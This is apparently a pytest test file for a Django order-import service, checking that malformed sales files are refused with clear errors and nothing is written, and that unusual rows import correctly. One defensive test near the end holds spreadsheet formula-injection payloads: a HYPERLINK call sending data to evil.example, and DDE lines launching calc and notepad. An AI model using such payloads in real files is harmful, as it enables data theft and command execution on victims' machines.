"""Bad order files through the import service: a clear error, and nothing written at all.

Every bad file is imported beside a good file of the same format, so that an import that
was not all-or-nothing would write the good file's orders; each case names the file, row,
column, code and words the user must see. The unusual rows real exports hold (a guest, a
free sample, an adjustment, a cancelled order) are the contrast: they are imported and
counted as what they are. An import refuses what it cannot read, not what is unusual.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
import struct
import zlib
from collections.abc import Callable
from decimal import Decimal

import pandas as pd
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.utils import translation

from kpis.models import KpiSnapshot, RecomputeState
from plannerist.csv_safe import to_safe_csv
from sales import services as sales_services
from sales.models import DailyActual, ImportBatch, ImportedOrder
from sales.readers import OrderFile, RowError, template_xlsx
from tests.factories import make_campaign, make_discount_code
from tests.kpis.factories import GENERIC_HEADER, csv_file, sample, tiny_shop

COLUMNS = GENERIC_HEADER.strip().split(";")
TILL_MAPPING = {
    "order": "Ticket", "date": "Horodatage", "sku": "Article", "description": "Libellé",
    "quantity": "Qté", "unit_price": "PU TTC", "customer": "Client", "channel": "Magasin",
}  # fmt: skip
TILL_HEADER = "Ticket\tHorodatage\tArticle\tLibellé\tQté\tPU TTC\tClient\tMagasin\n"
SHOPIFY_HEADER = (
    "Name,Email,Created at,Lineitem quantity,Lineitem name,Lineitem price,Total,Currency\n"
)
SHOPIFY_ROW = "#9001,lea@example.fr,2026-04-05 10:00:00 +0200,1,Bougie,10.00,10.00,EUR\n"
WOO_HEADER = "order_id,order_date,order_total,order_currency,customer_email,line_item_1\n"
WOO_ROW = (
    "9001,2026-04-05 10:00:00,10.00,EUR,lea@example.fr,name:Bougie|quantity:1|total:8.33|tax:1.67\n"
)
# A good file of each format, imported beside every bad one (other order ids).
COMPANIONS: dict[str, Callable[[], OrderFile]] = {
    "generic": tiny_shop,
    "shopify": lambda: sample("shopify_79cols_sample.csv"),
    "woocommerce": lambda: sample("woocommerce_sample.csv"),
    "lines": lambda: sample("lines_sample.tsv"),
}


def row(**cells: str) -> str:
    """One template line: a sale of one unit at 12,00 unless ``cells`` say otherwise."""
    values = {"order_id": "B1", "date": "05/04/2026 10:00", "sku": "S", "product_name": "Bougie",
              "quantity": "1", "unit_price": "12,00", "customer": "lea@example.fr", **cells}  # fmt: skip
    return ";".join(values.get(column, "") for column in COLUMNS) + "\n"


def generic(*rows: str, name: str = "bad.csv") -> OrderFile:
    return csv_file(name, GENERIC_HEADER + "".join(rows))


def png() -> bytes:
    """A real 1×1 PNG image."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def too_large() -> OrderFile:
    line = row()
    return generic(line * (20 * 1024 * 1024 // len(line) + 1), name="year.csv")


def too_many_rows() -> list[OrderFile]:
    """Two files of 100,000 rows, each under the limit; with the good file's 4, the import is not."""
    return [generic(row() * 100_000, name=f"half{n}.csv") for n in (1, 2)]


@dataclasses.dataclass(frozen=True)
class Bad:
    files: Callable[[], OrderFile | list[OrderFile]]
    format: str
    # What the user must be told: the file, row and column it names, its code, and words.
    file: str | None
    row: int | None
    column: str | None
    code: str
    says: str
    mapping: dict[str, str] | None = None
    cancel_prefix: str | None = None
    with_good_file: bool = True


BAD = {
    # --- not a text table at all
    "a PNG image named .csv is refused as binary": Bad(
        lambda: OrderFile("logo.csv", png()), "generic",
        "logo.csv", None, None, "binary", "not text"),
    "terminal control characters are refused as binary": Bad(
        lambda: OrderFile("bad.csv", GENERIC_HEADER.encode() + b"\x1b[2J\x07\x08\n"), "generic",
        "bad.csv", None, None, "binary", "binary data"),
    "a damaged workbook is refused": Bad(
        lambda: OrderFile("orders.xlsx", b"PK\x03\x04" + b"\x00garbage" * 40), "generic",
        "orders.xlsx", None, None, "bad_xlsx", "damaged"),
    "a workbook whose download was cut short is refused": Bad(
        lambda: OrderFile("orders.xlsx", template_xlsx(with_example=True)[:3000]), "generic",
        "orders.xlsx", None, None, "bad_xlsx", "damaged"),
    "a CSV renamed .xlsx is refused as not a workbook": Bad(
        lambda: OrderFile("orders.xlsx", (GENERIC_HEADER + row()).encode()), "generic",
        "orders.xlsx", None, None, "bad_xlsx", "not an Excel workbook"),
    "a legacy .xls workbook is refused, saying to save it as .xlsx": Bad(
        lambda: OrderFile("orders.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512), "generic",
        "orders.xls", None, None, "unsupported_format", "save it as .xlsx"),
    # --- encodings
    "a UTF-32 file is refused naming the encodings read": Bad(
        lambda: OrderFile("bad.csv", (GENERIC_HEADER + row()).encode("utf-32")), "generic",
        "bad.csv", None, None, "encoding", "not UTF-8, UTF-16 or Windows-1252"),
    "a UTF-16 file without byte-order mark is refused as not text": Bad(
        lambda: OrderFile("bad.csv", (GENERIC_HEADER + row()).encode("utf-16-le")), "generic",
        "bad.csv", None, None, "binary", "not text"),
    "bytes no supported encoding defines are refused naming the encoding": Bad(
        lambda: OrderFile("bad.csv", GENERIC_HEADER.encode() + b"B1;05/04/2026;S;\x81\x8d\x90;1;2\n"),
        "generic", "bad.csv", None, None, "encoding", "save it again as 'CSV UTF-8'"),
    # --- layout: separator, columns, rows
    "a pipe-separated file is refused with a hint about the separator": Bad(
        lambda: csv_file("bad.csv", (GENERIC_HEADER + row() + row(order_id="B2", discount_amount="1,50")).replace(";", "|")),
        "generic", "bad.csv", None, None, "missing_column", "separated by something other than"),
    "a Shopify export without Name is refused naming the column": Bad(
        lambda: csv_file("bad.csv", (SHOPIFY_HEADER + SHOPIFY_ROW).replace("Name,", "Order,")), "shopify",
        "bad.csv", None, None, "missing_column", "missing column(s) Name"),
    "a WooCommerce export without order_id is refused naming the column": Bad(
        lambda: csv_file("bad.csv", (WOO_HEADER + WOO_ROW).replace("order_id,", "id,")), "woocommerce",
        "bad.csv", None, None, "missing_column", "missing column(s) order_id"),
    "a template without unit_price is refused naming the column": Bad(
        lambda: csv_file("bad.csv", (GENERIC_HEADER + row()).replace("unit_price", "prix")), "generic",
        "bad.csv", None, None, "missing_column", "missing column(s) unit_price"),
    "a till file without the mapped quantity column is refused naming it": Bad(
        lambda: csv_file("bad.tsv", (TILL_HEADER + "T-9\t2026-04-05 10:00\tS\tx\t1\t2\t\tLyon\n").replace("Qté", "Qty")),
        "lines", "bad.tsv", None, None, "missing_column", "missing column(s) Qté",
        mapping=TILL_MAPPING),
    "a file of another kind is refused listing the columns it has": Bad(
        lambda: csv_file("releve.csv", "Date;Libellé;Montant\n05/04/2026;CB Lyon;-12,00\n"), "generic",
        "releve.csv", None, None, "missing_column", "the file has: Date, Libellé, Montant"),
    "a Shopify export imported as WooCommerce is refused naming the format": Bad(
        lambda: csv_file("orders_export.csv", SHOPIFY_HEADER + SHOPIFY_ROW), "woocommerce",
        "orders_export.csv", None, None, "missing_column", "not a WooCommerce order export"),
    "a row cut short is refused naming the blank cell": Bad(
        lambda: generic(row(), "B2;05/04/2026 10:00;S;Bougie;1\n"), "generic",
        "bad.csv", 3, "unit_price", "required", "this cell is blank"),
    "a row with more cells than the header is refused naming the row": Bad(
        lambda: generic(row(), row(order_id="B2").rstrip("\n") + ";oops\n"), "generic",
        "bad.csv", 3, None, "ragged_row", "16 cells but the header has 15"),
    "rows ending with an extra separator are refused, not read shifted": Bad(
        lambda: csv_file("bad.csv", WOO_HEADER + WOO_ROW.rstrip("\n") + ",\n"), "woocommerce",
        "bad.csv", 2, None, "ragged_row", "7 cells but the header has 6"),
    "a quote never closed is refused naming the row it opens on": Bad(
        lambda: generic(row(), row(order_id="B2", product_name='"Bougie'), row(order_id="B3")), "generic",
        "bad.csv", 3, None, "unclosed_quote", "never closed"),
    "a line without an order id is refused": Bad(
        lambda: generic(row(), row(order_id="")), "generic",
        "bad.csv", 3, "order_id", "required", "blank"),
    # --- empty
    "an empty file is refused": Bad(
        lambda: OrderFile("bad.csv", b""), "generic", "bad.csv", None, None, "empty", "the file is empty"),
    "a file of blank lines is refused as empty": Bad(
        lambda: OrderFile("bad.csv", b"\xef\xbb\xbf\r\n\r\n \r\n"), "generic",
        "bad.csv", None, None, "empty", "the file is empty"),
    "a header without rows is refused": Bad(
        lambda: generic(), "generic", "bad.csv", None, None, "no_rows", "no order rows"),
    "an import without any file is refused": Bad(
        lambda: [], "generic", None, None, None, "empty", "no file to import", with_good_file=False),
    # --- dates
    "a word in the date column is refused quoting it": Bad(
        lambda: generic(row(), row(order_id="B2", date="hier")), "generic",
        "bad.csv", 3, "date", "bad_date", "'hier' is not a date"),
    "the 31st of February is refused": Bad(
        lambda: generic(row(date="31/02/2026")), "generic",
        "bad.csv", 2, "date", "bad_date", "'31/02/2026' is not a date"),
    "a time of 25:10 is refused": Bad(
        lambda: generic(row(date="05/04/2026 25:10")), "generic",
        "bad.csv", 2, "date", "bad_date", "is not a date"),
    "day-first and month-first dates mixed in one column are refused": Bad(
        lambda: generic(row(date="13/04/2026"), row(order_id="B2", date="04/13/2026")), "generic",
        "bad.csv", 3, "date", "bad_date", "'04/13/2026' is not a date"),
    "a no-date placeholder 01/01/0001 is refused, not read as 2001": Bad(
        lambda: generic(row(date="01/01/0001 00:00")), "generic",
        "bad.csv", 2, "date", "bad_date", "from 1900 to 2199"),
    "a no-date placeholder 9999-12-31 in a Shopify export is refused": Bad(
        lambda: csv_file("bad.csv", SHOPIFY_HEADER + SHOPIFY_ROW.replace("2026-04-05 10:00:00 +0200", "9999-12-31 23:59:59")),
        "shopify", "bad.csv", 2, "Created at", "bad_date", "'9999-12-31 23:59:59' is not a date"),
    # --- numbers
    "a word in the quantity column is refused quoting it": Bad(
        lambda: generic(row(), row(order_id="B2", quantity="deux")), "generic",
        "bad.csv", 3, "quantity", "bad_number", "'deux' is not a number"),
    "a word in the price column is refused quoting it": Bad(
        lambda: generic(row(unit_price="gratuit")), "generic",
        "bad.csv", 2, "unit_price", "bad_number", "'gratuit' is not a number"),
    "a price with garbled thousands marks is refused": Bad(
        lambda: generic(row(unit_price="1.234,5,6")), "generic",
        "bad.csv", 2, "unit_price", "bad_number", "'1.234,5,6' is not a number"),
    "an infinite price is refused": Bad(
        lambda: generic(row(unit_price="inf")), "generic",
        "bad.csv", 2, "unit_price", "bad_number", "'inf' is not a number"),
    "a negative Shopify quantity is refused (Shopify never writes one)": Bad(
        lambda: csv_file("bad.csv", SHOPIFY_HEADER + SHOPIFY_ROW.replace(",1,Bougie", ",-1,Bougie")), "shopify",
        "bad.csv", 2, "Lineitem quantity", "negative_quantity", "Refunded Amount"),
    "a negative Shopify line price is refused": Bad(
        lambda: csv_file("bad.csv", SHOPIFY_HEADER + SHOPIFY_ROW.replace(",10.00,10.00", ",-10.00,10.00")), "shopify",
        "bad.csv", 2, "Lineitem price", "negative_price", "is negative"),
    "a negative WooCommerce line quantity is refused": Bad(
        lambda: csv_file("bad.csv", WOO_HEADER + WOO_ROW.replace("quantity:1", "quantity:-1")), "woocommerce",
        "bad.csv", 2, "line_item_1", "negative_quantity", "refund_items"),
    "a WooCommerce order without a line item is refused": Bad(
        lambda: csv_file("bad.csv", WOO_HEADER + WOO_ROW.split("name:")[0] + "\n"), "woocommerce",
        "bad.csv", 2, "line_item_1", "no_line_items", "no line item"),
    # --- orders that cannot be one order
    "one order id with two customers is refused without quoting an e-mail": Bad(
        lambda: generic(row(), row(sku="T", customer="paul@example.fr")), "generic",
        "bad.csv", 3, "customer", "conflicting_order", "has another customer here than on row 2"),
    "one Shopify order with two creation times is refused": Bad(
        lambda: csv_file("bad.csv", SHOPIFY_HEADER + SHOPIFY_ROW + SHOPIFY_ROW.replace("10:00:00", "11:00:00")),
        "shopify", "bad.csv", 3, "Created at", "conflicting_order", "two orders share this id"),
    "the same order with another total in a second file is refused": Bad(
        lambda: [csv_file("monday.csv", SHOPIFY_HEADER + SHOPIFY_ROW),
                 csv_file("tuesday.csv", SHOPIFY_HEADER + SHOPIFY_ROW.replace(",10.00,EUR", ",12.00,EUR"))],
        "shopify", "tuesday.csv", 2, None, "conflicting_duplicate", "is also in monday.csv"),
    # --- what the database refuses
    "an order in another currency is refused naming both currencies": Bad(
        lambda: csv_file("bad.csv", SHOPIFY_HEADER + SHOPIFY_ROW.replace(",EUR", ",USD")), "shopify",
        "bad.csv", 2, "Currency", "currency", "is in USD (every order), but the organisation keeps its books in EUR"),
    "some orders in another currency are refused in one error naming their rows": Bad(
        lambda: generic(row(), row(order_id="B2", currency="USD"), row(order_id="B3", currency="usd")), "generic",
        "bad.csv", 3, "currency", "currency", "2 orders of the file are in USD (rows 3, 4)"),
    "an order id longer than 64 characters is refused": Bad(
        lambda: generic(row(order_id="B" * 65)), "generic",
        "bad.csv", 2, "order_id", "order_id_too_long", "longer than 64 characters"),
    "a quantity of -1,000,000 is refused": Bad(
        lambda: generic(row(), row(order_id="B2", quantity="-1 000 000")), "generic",
        "bad.csv", 3, "quantity", "quantity_out_of_range", "-1000000 units on one line is out of range"),
    # --- text that is not one file
    "rows pasted from a Windows-1252 file into a UTF-8 file are refused naming them": Bad(
        lambda: OrderFile("bad.csv", (GENERIC_HEADER + row(product_name="Bougie été")).encode()
                          + row(order_id="B2", product_name="Crème").encode("cp1252")), "generic",
        "bad.csv", 3, None, "mixed_encoding", "not in UTF-8 like the rest of the file"),
    "the same order with other lines in a second file is refused": Bad(
        lambda: [generic(row(), name="monday.csv"), generic(row(), row(sku="T"), name="tuesday.csv")], "generic",
        "tuesday.csv", 2, None, "conflicting_duplicate", "is also in monday.csv (row 2) with other lines"),
    # --- the column mapping of order-line files
    "a mapping with an unknown field is refused naming it": Bad(
        lambda: [], "lines",
        None, None, None, "bad_mapping", "unknown field(s) in the column mapping: colour",
        mapping={**TILL_MAPPING, "colour": "Couleur"}),
    "a mapping without the price is refused naming it": Bad(
        lambda: [], "lines",
        None, None, None, "bad_mapping", "the column mapping needs: unit_price",
        mapping={k: v for k, v in TILL_MAPPING.items() if k != "unit_price"}),
    "order lines without any mapping are refused": Bad(
        lambda: [], "lines",
        None, None, None, "bad_mapping", "needs: order, date, quantity, unit_price, sku or description"),
    "a cancel prefix without an order column to apply it to is refused": Bad(
        lambda: [], "lines",
        None, None, None, "bad_mapping", "needs: order",
        mapping={k: v for k, v in TILL_MAPPING.items() if k != "order"}, cancel_prefix="C"),
    # --- size
    "a file over 20 MB is refused giving both sizes": Bad(
        too_large, "generic", "year.csv", None, None, "too_large", "over the 20.0 MB limit"),
    "an import over 200,000 rows is refused even when each file is under": Bad(
        too_many_rows, "generic", None, None, None, "too_many_rows",
        "the import has 200,004 rows, over the 200,000 limit"),
}  # fmt: skip


def nothing_written() -> dict[str, int]:
    return {
        "orders": ImportedOrder.objects.count(),
        "actuals": DailyActual.objects.count(),
        "batches": ImportBatch.objects.count(),
        "recompute states": RecomputeState.objects.count(),
        "snapshots": KpiSnapshot.objects.count(),
    }


def import_refused(org, capture, files, format, **kwargs) -> list[RowError]:
    """Import; assert it was refused, wrote nothing and queued nothing; return its errors."""
    with capture() as callbacks:
        outcome = sales_services.orders_import(organization=org, files=files, format=format, **kwargs)
    assert not outcome.ok
    assert outcome.batch is None
    # The importers return no line when they refuse; the service may refuse lines they read.
    assert outcome.result.lines.empty or outcome.result.ok
    assert (outcome.created, outcome.updated) == (0, 0)
    written = nothing_written()
    assert written == dict.fromkeys(written, 0)
    assert callbacks == []
    assert all(isinstance(e, RowError) and e.message and str(e) for e in outcome.errors)
    return outcome.errors


@pytest.fixture
def english():
    """The words checked are the English ones (the French are tested on the page)."""
    with translation.override("en"):
        yield


@pytest.mark.django_db
@pytest.mark.parametrize("kind", list(BAD))
def test_a_bad_file_gets_a_clear_error_and_nothing_is_written(
    org, django_capture_on_commit_callbacks, kind, english
):
    bad = BAD[kind]
    made = bad.files()
    good = COMPANIONS[bad.format]()
    files = [good] if bad.with_good_file else []
    files += made if isinstance(made, list) else [made]
    errors = import_refused(
        org, django_capture_on_commit_callbacks, files, bad.format,
        mapping=bad.mapping, cancel_prefix=bad.cancel_prefix,
    )  # fmt: skip
    found = [e for e in errors if e.code == bad.code]
    assert found, errors
    first = found[0]
    assert (first.file, first.row, first.column) == (bad.file, bad.row, bad.column), errors
    assert bad.says in first.message, first.message
    # The good file is never blamed for the bad one.
    assert not [e for e in errors if e.file == good.name], errors
    if bad.row is not None:
        assert f"row {bad.row}" in str(first)


def test_at_least_twenty_kinds_of_bad_file_are_covered():
    assert len(BAD) >= 20
    assert len({bad.code for bad in BAD.values()}) >= 20


@pytest.mark.django_db
def test_a_bad_file_leaves_the_organisations_earlier_import_untouched(
    org, django_capture_on_commit_callbacks
):
    sales_services.orders_import(organization=org, files=[tiny_shop()], format="generic")
    before = list(ImportedOrder.objects.order_by("order_id").values())
    actuals = list(DailyActual.objects.order_by("date", "campaign_id").values())
    batches = ImportBatch.objects.count()
    changed = csv_file(
        "tiny.csv", GENERIC_HEADER + row(order_id="A1", quantity="5") + row(date="hier")
    )
    with django_capture_on_commit_callbacks() as callbacks:
        outcome = sales_services.orders_import(organization=org, files=[changed], format="generic")
    assert [(e.row, e.column, e.code) for e in outcome.errors] == [(3, "date", "bad_date")]
    assert list(ImportedOrder.objects.order_by("order_id").values()) == before
    assert list(DailyActual.objects.order_by("date", "campaign_id").values()) == actuals
    assert ImportBatch.objects.count() == batches and callbacks == []


# --- What is unusual but real is imported and counted as what it is -------------------------


@pytest.mark.django_db
def test_guests_free_samples_adjustments_and_cancellations_are_imported_as_what_they_are(org):
    file = generic(
        row(order_id="S1", quantity="2", unit_price="24,90"),  # a customer's sale
        row(order_id="S1", sku="ECH", unit_price="0"),  # with a free sample
        row(order_id="G1", customer="", unit_price="9,90"),  # a walk-in guest
        row(order_id="R1", quantity="2", unit_price="10,00", customer="paul@example.fr"),
        row(order_id="R1", sku="T", quantity="-1", unit_price="10,00", customer=""),  # a return
        row(order_id="W1", quantity="-3", unit_price="0", customer=""),  # a stock write-off
        row(order_id="X1", status="annulée", customer="marc@example.fr"),  # a cancelled order
        name="unusual.csv",
    )
    outcome = sales_services.orders_import(organization=org, files=[file], format="generic")
    assert outcome.ok, outcome.errors
    summary = outcome.result.summary
    assert (summary.orders, summary.guest_orders, summary.cancelled_orders) == (5, 2, 1)
    assert (summary.zero_price_lines, summary.adjustment_lines) == (2, 2)
    orders = {o.order_id: o for o in ImportedOrder.objects.filter(organization=org)}
    assert orders["G1"].customer_key is None and orders["G1"].paid_incl_vat == Decimal("9.90")
    assert orders["S1"].paid_incl_vat == Decimal("49.80") and orders["S1"].units == Decimal("3")
    assert orders["R1"].units == Decimal("1") and not orders["R1"].is_adjustment
    assert orders["W1"].is_adjustment and not orders["W1"].cancelled
    assert orders["X1"].cancelled
    day = DailyActual.objects.get(organization=org, date=dt.date(2026, 4, 5), campaign_id=None)
    assert day.orders == 3  # sales only: neither the write-off nor the cancelled order


@pytest.mark.django_db
def test_a_till_file_with_a_cancel_prefix_imports_cancellations_and_adjustments(org):
    till = csv_file("till.tsv", TILL_HEADER + (
        "T-1\t2026-04-05 10:00\tS\tBougie\t2\t24.90\t10042\tLyon\n"
        "CT-1\t2026-04-05 10:05\tS\tBougie\t-2\t24.90\t10042\tLyon\n"
        "T-2\t2026-04-05 11:00\tS\tBougie\t-1\t24.90\t\tLyon\n"
    ))  # fmt: skip
    outcome = sales_services.orders_import(
        organization=org, files=[till], format="lines", mapping=TILL_MAPPING, cancel_prefix="C"
    )
    assert outcome.ok, outcome.errors
    orders = {o.order_id: o for o in ImportedOrder.objects.filter(organization=org)}
    assert orders["CT-1"].cancelled and not orders["CT-1"].is_adjustment
    assert orders["T-2"].is_adjustment and not orders["T-2"].cancelled
    assert orders["T-2"].customer_key is None
    assert not orders["T-1"].cancelled and orders["T-1"].units == Decimal("2")


@pytest.mark.django_db
def test_a_utf16_file_with_its_byte_order_mark_is_imported(org):
    file = OrderFile("unicode.txt", (GENERIC_HEADER + row()).encode("utf-16"))
    outcome = sales_services.orders_import(organization=org, files=[file], format="generic")
    assert outcome.ok, outcome.errors
    assert list(ImportedOrder.objects.values_list("order_id", "paid_incl_vat")) == [
        ("B1", Decimal("12.00"))
    ]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "rows",
    [
        pytest.param([row(customer=""), row(order_id="B2", customer="")], id="walk-in guests only"),
        pytest.param([row(status="cancelled")], id="a cancelled order only"),
        pytest.param([row(quantity="-2")], id="a stock adjustment only"),
    ],
)
def test_a_file_whose_orders_have_no_customer_sale_is_imported(org, rows):
    outcome = sales_services.orders_import(organization=org, files=[generic(*rows)], format="generic")
    assert outcome.ok and ImportedOrder.objects.filter(organization=org).count() == len(
        {r.split(";")[0] for r in rows}
    )


@pytest.mark.django_db
def test_a_barcode_in_the_price_column_is_refused_with_a_clear_error(
    org, django_capture_on_commit_callbacks
):
    errors = import_refused(
        org,
        django_capture_on_commit_callbacks,
        [generic(row(unit_price="3760123456789"))],
        "generic",
    )
    assert [(e.row, e.column) for e in errors] == [(2, "unit_price")]


# --- Another organisation's ids and codes -----------------------------------------------------


@pytest.mark.django_db
def test_order_ids_another_organisation_imported_are_new_orders_here(org, other_org):
    sales_services.orders_import(organization=other_org, files=[tiny_shop()], format="generic")
    theirs = list(
        ImportedOrder.objects.filter(organization=other_org).order_by("order_id").values()
    )
    same_ids = csv_file("ours.csv", GENERIC_HEADER + "".join(
        row(order_id=f"A{n}", date="10/04/2026 09:00", unit_price="50,00", customer="ann@example.fr")
        for n in range(1, 5)
    ))  # fmt: skip
    outcome = sales_services.orders_import(organization=org, files=[same_ids], format="generic")
    assert outcome.ok and (outcome.created, outcome.updated, outcome.unchanged) == (4, 0, 0)
    ours = ImportedOrder.objects.filter(organization=org)
    assert sorted(ours.values_list("order_id", flat=True)) == ["A1", "A2", "A3", "A4"]
    assert set(ours.values_list("paid_incl_vat", flat=True)) == {Decimal("50.00")}
    assert (
        list(ImportedOrder.objects.filter(organization=other_org).order_by("order_id").values())
        == theirs
    )
    # The same e-mail is another key in each organisation, and Ann is new here.
    assert not set(ours.values_list("customer_key", flat=True)) & {
        o["customer_key"] for o in theirs
    }
    assert DailyActual.objects.get(organization=org, date=dt.date(2026, 4, 10), campaign_id=None).new_customers == 1
    assert not DailyActual.objects.filter(
        organization=other_org, date=dt.date(2026, 4, 10)
    ).exists()


@pytest.mark.django_db
def test_another_organisations_discount_code_links_no_order(org, other_org):
    their_campaign = make_campaign(other_org)
    make_discount_code(other_org, campaign=their_campaign, code="PROMO")
    sales_services.orders_import(organization=org, files=[tiny_shop()], format="generic")
    assert ImportedOrder.objects.get(organization=org, order_id="A3").discount_code == "promo"
    assert not ImportedOrder.objects.filter(campaign_id__isnull=False).exists()
    assert not DailyActual.objects.filter(campaign_id__isnull=False).exists()
    ours = make_campaign(org)
    make_discount_code(org, campaign=ours, code="PROMO")
    again = csv_file("again.csv", GENERIC_HEADER + row(order_id="A5", discount_code="Promo"))
    sales_services.orders_import(organization=org, files=[again], format="generic")
    assert ImportedOrder.objects.get(organization=org, order_id="A5").campaign_id == ours.pk
    assert not DailyActual.objects.filter(campaign_id=their_campaign.pk).exists()


# --- Formula payloads: stored as inert text, escaped in any CSV export ----------------------


@pytest.mark.django_db
def test_formula_payloads_are_stored_as_text_and_escaped_in_a_csv_export(org):
    payloads = {
        "order_id": '=HYPERLINK("http://evil.example/?"&A1,"Voir")',
        "discount_code": "@SUM(1+1)*cmd|' /C calc'!A0",
        "channel": "+cmd|' /C notepad'!A0",
        "product_name": "=1+1",
    }
    outcome = sales_services.orders_import(
        organization=org, files=[generic(row(**payloads))], format="generic"
    )
    assert outcome.ok, outcome.errors
    stored = ImportedOrder.objects.get(organization=org)
    assert stored.order_id == payloads["order_id"]
    assert stored.discount_code == payloads["discount_code"]
    assert stored.channel_name == payloads["channel"]
    frame = pd.DataFrame(
        list(
            ImportedOrder.objects.values(
                "order_id", "discount_code", "channel_name", "paid_incl_vat"
            )
        )
    )
    exported = pd.read_csv(io.BytesIO(to_safe_csv(frame)), sep=";", dtype=str, encoding="utf-8-sig")
    cells = exported[["order_id", "discount_code", "channel_name"]].iloc[0].tolist()
    assert cells == [
        "'" + payloads["order_id"],
        "'" + payloads["discount_code"],
        "'" + payloads["channel"],
    ]


# --- Read in one pass, whatever made the file (issue 12, items 19, 23, 24) -------------------


@pytest.mark.django_db
def test_every_problem_of_a_file_is_reported_in_one_attempt(org, django_capture_on_commit_callbacks):
    file = generic(
        row(date="hier"),  # a parse error
        row(order_id="B" * 65),  # an id the books cannot hold
        row(order_id="B3", unit_price="3760123456789"),  # a barcode in the price
        row(order_id="B4", quantity="-1000000"),  # a million units taken back
        row(order_id="B5", currency="USD"),  # another currency
    )
    errors = import_refused(org, django_capture_on_commit_callbacks, [tiny_shop(), file], "generic")
    assert [(e.file, e.row, e.column, e.code) for e in errors] == [
        ("bad.csv", 2, "date", "bad_date"),
        ("bad.csv", 3, "order_id", "order_id_too_long"),
        ("bad.csv", 4, "unit_price", "amount_too_large"),
        ("bad.csv", 5, "quantity", "quantity_out_of_range"),
        ("bad.csv", 6, "currency", "currency"),
    ]


@pytest.mark.django_db
def test_a_file_in_another_currency_gets_one_message_not_one_per_order(
    org, django_capture_on_commit_callbacks
):
    rows = "".join(SHOPIFY_ROW.replace("#9001", f"#{n}").replace(",EUR", ",USD") for n in range(1, 51))
    file = csv_file("usd.csv", SHOPIFY_HEADER + rows)
    errors = import_refused(org, django_capture_on_commit_callbacks, [file], "shopify")
    assert [(e.file, e.row, e.column, e.code) for e in errors] == [("usd.csv", 2, "Currency", "currency")]


def mac(text: str) -> bytes:
    """Text as Excel for Mac saves a CSV: lines ended by a lone CR."""
    return text.replace("\n", "\r").encode()


@pytest.mark.django_db
def test_an_excel_for_mac_file_with_cr_line_ends_is_imported(org):
    file = OrderFile("mac.csv", mac(GENERIC_HEADER + row() + row(order_id="B2", unit_price="7,50")))
    outcome = sales_services.orders_import(organization=org, files=[file], format="generic")
    assert outcome.ok, outcome.errors
    assert sorted(ImportedOrder.objects.values_list("order_id", "paid_incl_vat")) == [
        ("B1", Decimal("12.00")), ("B2", Decimal("7.50"))
    ]


@pytest.mark.django_db
def test_the_import_page_previews_an_excel_for_mac_file(org, owner, client_for):
    upload = SimpleUploadedFile("mac.csv", mac(GENERIC_HEADER + row() + row(order_id="B2")), "text/csv")
    page = client_for(owner).post(f"/o/{org.slug}/kpis/imports/", {"format": "generic", "files": [upload]})
    assert page.status_code == 200
    assert ImportBatch.objects.get(organization=org).orders == 2
    assert not ImportedOrder.objects.exists()  # a preview until confirmed


@pytest.mark.django_db
def test_import_orders_reads_an_excel_for_mac_file(org, tmp_path, capsys):
    path = tmp_path / "mac.csv"
    path.write_bytes(mac(GENERIC_HEADER + row() + row(order_id="B2")))
    call_command("import_orders", "--org", org.slug, "--format", "generic", str(path))
    assert "2 orders created" in capsys.readouterr().out
    assert ImportedOrder.objects.filter(organization=org).count() == 2


@pytest.mark.django_db
def test_the_import_page_says_in_french_what_is_wrong(org, owner, client_for):
    usd = SimpleUploadedFile("usd.csv", (SHOPIFY_HEADER + SHOPIFY_ROW.replace(",EUR", ",USD")).encode())
    mixed = SimpleUploadedFile("mixed.csv", (SHOPIFY_HEADER + SHOPIFY_ROW.replace("Bougie", "Bougie été")).encode()
                               + SHOPIFY_ROW.replace("#9001", "#9002").replace("Bougie", "Crème").encode("cp1252"))
    client = client_for(owner, HTTP_ACCEPT_LANGUAGE="fr")
    page = client.post(f"/o/{org.slug}/kpis/imports/", {"format": "shopify", "files": [usd, mixed]})
    assert page.status_code == 400
    html = page.content.decode()
    assert "le fichier est en USD (toutes ses commandes)" in html
    assert "cette ligne n&#x27;est pas en UTF-8" in html
    assert not ImportBatch.objects.exists()
